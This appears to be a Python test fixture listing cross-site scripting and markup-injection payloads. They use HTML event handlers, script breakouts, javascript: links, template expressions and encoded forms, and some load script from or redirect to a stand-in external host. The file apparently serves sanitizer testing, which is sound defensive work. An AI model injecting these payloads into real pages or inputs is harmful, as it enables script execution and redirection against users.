"""Fifty names that try to act: markup of HTML, SVG, Markdown, LaTeX, DOT and templates that would set ``window.hacked``."""

from __future__ import annotations

_ACT = "window.hacked=1"
_OUT = "http://203.0.113.7/x"
_TAGS = ("img src=x onerror", "svg onload", "body onload", "iframe onload", "video src=x onerror", "audio src=x onerror",
         "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus", "details open ontoggle",
         "marquee onstart", "object data=x onerror", "embed src=x onload", "link rel=stylesheet href=x onerror",
         "style onload", "math onmouseover", "form onsubmit", "button autofocus onfocus", "a autofocus onfocus", "image src=x onerror")

PAYLOADS: tuple[str, ...] = (
    *(f"<{tag}={_ACT}>" for tag in _TAGS),
    f"<script>{_ACT}</script>", f"<ScRiPt>{_ACT}</sCrIpT>", f"<script src={_OUT}.js></script>", f"</script><script>{_ACT}</script>",
    f"\"><script>{_ACT}</script>", f"'><img src=x onerror={_ACT}>", f"</textarea><script>{_ACT}</script>",
    f"</title><script>{_ACT}</script>", f"--><script>{_ACT}</script>", f"]]><script>{_ACT}</script>",
    f"<svg><script>{_ACT}</script></svg>", f"<svg><a xlink:href=javascript:{_ACT}>x</a></svg>", f"<a href=javascript:{_ACT}>x</a>",
    f"<a href=data:text/html,<script>{_ACT}</script>>x</a>", f"<iframe srcdoc=\"<script>parent.{_ACT}</script>\"></iframe>",
    f"<meta http-equiv=refresh content=0;url={_OUT}>", f"<base href={_OUT}>", f"![x]({_OUT}.png)", f"[x](javascript:{_ACT})",
    f"[x]: {_OUT} \"t\"", f"<{_OUT}>", f"`<script>{_ACT}</script>`", f"$\\href{{javascript:{_ACT}}}{{x}}$", "$\\unicode{x}$:red[x]:material/home:",
    f"\" ]; x [URL=\"javascript:{_ACT}\"", f"{{{{constructor.constructor('{_ACT}')()}}}}", f"${{{_ACT}}}", f"%3Cscript%3E{_ACT}%3C/script%3E",
    f"&lt;script&gt;{_ACT}&lt;/script&gt;", f"\\u003cscript\\u003e{_ACT}\\u003c/script\\u003e",
)
